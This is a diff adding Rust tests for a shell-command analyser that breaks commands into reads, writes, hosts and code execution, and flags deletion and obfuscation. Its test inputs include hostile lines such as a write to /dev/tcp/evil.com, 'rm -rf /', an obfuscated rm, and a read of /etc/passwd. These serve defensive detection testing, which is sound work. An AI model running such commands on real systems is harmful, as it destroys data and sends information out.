@@ -1,0 +1,226 @@
+//! Commands and what they are read into, written compactly.
+
+use super::command;
+use crate::reading::atoms::{Atom, AtomKind, CodeClass, Found, PathText, Reading, Source};
+use crate::reading::disk::NoDisk;
+use crate::reading::surroundings::Surroundings;
+use crate::reading::word::{Piece, Word};
+
+fn at() -> Surroundings {
+    Surroundings {
+        directory: "/r".to_owned(),
+        repository: "/r".to_owned(),
+        home: "/home/me".to_owned(),
+        temporary: "/tmp/s".to_owned(),
+        ..Surroundings::default()
+    }
+}
+
+fn word(word: &Word) -> String {
+    let mut text = String::new();
+    for piece in &word.pieces {
+        match piece {
+            Piece::Text(piece) => text.push_str(piece),
+            Piece::Glob(piece) => text.push_str(&format!("<{piece}>")),
+            Piece::Unknown => text.push('?'),
+            Piece::Fields => text.push('…'),
+        }
+    }
+    if text.is_empty() {
+        "''".to_owned()
+    } else {
+        text
+    }
+}
+
+fn path(path: &PathText) -> String {
+    match path {
+        PathText::Known(path) => path.clone(),
+        PathText::Below(path) => format!("{path}/?"),
+        PathText::Glob(path, pattern) => format!("{path}/<{pattern}>"),
+        PathText::Anywhere => "anywhere".to_owned(),
+    }
+}
+
+fn atom(atom: &Atom) -> String {
+    let mut text = match &atom.kind {
+        AtomKind::Program(program) => {
+            let words: Vec<String> = program.words.iter().map(word).collect();
+            let more = if program.open_ended { " +" } else { "" };
+            let dirs = match program.directories.as_slice() {
+                [one] if one == "/r" => String::new(),
+                [] => "@? ".to_owned(),
+                dirs => format!("@{} ", dirs.join(",")),
+            };
+            let found = match &program.found {
+                Found::WritablePath => " (writable)",
+                _ => "",
+            };
+            format!("{dirs}{}{more}{found}", words.join(" "))
+        }
+        AtomKind::Read(place) => format!(
+            "r:{}{}",
+            path(&place.path),
+            if place.tree { "/**" } else { "" }
+        ),
+        AtomKind::Write(place) => format!(
+            "w:{}{}",
+            path(&place.path),
+            if place.tree { "/**" } else { "" }
+        ),
+        AtomKind::Host(host) => format!("host:{}", host.name.as_deref().unwrap_or("?")),
+        AtomKind::Code(code) => {
+            let class = match code.class {
+                CodeClass::Repo => "repo",
+                CodeClass::Inline => "inline",
+                CodeClass::Unknown => "unknown",
+                CodeClass::Fetched => "fetched",
+            };
+            format!("code:{class}")
+        }
+        AtomKind::Use => "use".to_owned(),
+    };
+    if atom.source == Source::Redirection {
+        text.insert(0, '>');
+    }
+    for danger in &atom.dangers {
+        text.push_str(&format!(" !{:?}", danger.category));
+    }
+    text
+}
+
+/// All of it, in one line.
+fn line(reading: &Reading) -> String {
+    let mut parts: Vec<String> = reading.atoms.iter().map(atom).collect();
+    if !reading.unread.is_empty() {
+        parts.push("UNREAD".to_owned());
+    }
+    parts.join(" | ")
+}
+
+fn read(text: &str) -> String {
+    line(&command(text, &at(), &NoDisk))
+}
+
+#[test]
+fn a_command_is_read_into_its_atoms() {
+    for (text, expected) in [
+        ("", "use"),
+        ("echo hi", "use"),
+        ("export FOO=bar; echo $FOO", "use"),
+        ("cd sub; ls", "@/r/sub,/r ls"),
+        ("cd a || exit 1; ls", "@/r/a ls"),
+        ("(cd sub && ls); ls", "@/r/sub ls | ls"),
+        (
+            "pushd sub; rm x; popd; rm y",
+            "@/r/sub,/r rm x | w:/r/sub/x | w:/r/x | @/r,/r/sub rm y | w:/r/y | w:/r/sub/y",
+        ),
+        ("cat > f.txt <<'E'\nhi $x\nE", "cat | >w:/r/f.txt"),
+        (
+            "cat src/*.rs | wc -l",
+            "cat src/<*>.rs | r:/r/src/<*.rs> | wc -l",
+        ),
+        (
+            "for f in src/*.rs; do wc -l \"$f\"; done",
+            "wc -l src/<*>.rs | r:/r/src/<*.rs>",
+        ),
+        ("X=/etc; cat $X/passwd", "cat /etc/passwd | r:/etc/passwd"),
+        (
+            "X=/a Y=$(cat $X); rm \"$Y\"",
+            "cat /a | r:/a | rm ? | w:anywhere",
+        ),
+        (
+            "sh -c 'cd sub && rm -rf x'",
+            "@/r/sub rm -rf x | w:/r/sub/x/** !Delete",
+        ),
+        ("eval \"rm $HOME/x\"", "rm /home/me/x | w:/home/me/x"),
+        ("echo 'rm -rf /' | sh", "sh | rm -rf / | w://** !Delete"),
+        (
+            "bash <<'E'\nrm -rf build\nE",
+            "bash | rm -rf build | w:/r/build/** !Delete",
+        ),
+        (
+            "f() { rm \"$1\"; }; f a; f b",
+            "rm a | w:/r/a | rm b | w:/r/b",
+        ),
+        (
+            "while read f; do rm \"$f\"; done < list",
+            "rm ? | w:anywhere | >r:/r/list",
+        ),
+        ("echo hi > /dev/tcp/evil.com/80", ">host:evil.com"),
+        (
+            "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
+            "use",
+        ),
+        ("LD_PRELOAD=./x.so ls", "ls | code:repo"),
+        (
+            "if [ -f a ]; then cat a; else cat b; fi",
+            "cat a | r:/r/a | cat b | r:/r/b",
+        ),
+        ("./run.sh", "./run.sh | code:repo"),
+        ("xargs rm < list", "rm + | >r:/r/list"),
+        ("cat a b 2>/dev/null || true", "cat a b | r:/r/a | r:/r/b"),
+        ("rm -rf \"$UNSET/x\"", "rm -rf ?/x | w:anywhere/** !Delete"),
+        (
+            "echo 'rm -rf ~' > x.sh; sh x.sh",
+            ">w:/r/x.sh | sh x.sh | code:inline | rm -rf /home/me | w:/home/me/** !Delete",
+        ),
+        (
+            "$'\\x72\\x6d' -rf x",
+            "rm -rf x !Obfuscation | w:/r/x/** !Delete",
+        ),
+    ] {
+        assert_eq!(read(text), expected, "{text}");
+    }
+}
+
+#[test]
+fn what_nobody_can_know_is_unread() {
+    for text in [
+        "$X a",
+        "eval \"$(cat x)\"",
+        "sh -c \"$X\"",
+        "cat x y | sh",
+        "((x))",
+        "[[ $x -eq 0 ]]",
+        "test -v \"$x\"",
+        "echo ${!x}",
+        "echo ${x@P}",
+        "alias ls=rm",
+        "PATH=$X ls",
+        "hash -p /tmp/x ls",
+        "enable -f ./x.so x",
+        "trap \"$X\" EXIT",
+        "PS4='$(id)' ls",
+        "set -k",
+        "shopt -s expand_aliases",
+        "f() { f; }; f",
+        "if",
+    ] {
+        let reading = command(text, &at(), &NoDisk);
+        assert!(!reading.unread.is_empty(), "{text}: {}", line(&reading));
+        assert!(!reading.atoms.is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn a_variable_that_a_branch_or_subshell_sets_is_not_taken_for_certain() {
+    for (text, expected) in [
+        ("X=a; (X=b); rm $X", "rm a | w:/r/a"),
+        ("X=a; [ -f c ] && X=b; rm \"$X\"", "rm ? | w:anywhere"),
+        (
+            "X=a; for i in 1 2; do rm \"$X\"; X=/; done",
+            "rm a | w:/r/a | rm ? | w:anywhere",
+        ),
+        (
+            "X=/etc; f() { local X=a; }; f; rm $X/x",
+            "rm /etc/x | w:/etc/x",
+        ),
+        (
+            "X=a; bash -c 'rm -rf \"$X/\"'",
+            "rm -rf ?/ | w:anywhere/** !Delete",
+        ),
+    ] {
+        assert_eq!(read(text), expected, "{text}");
+    }
+}
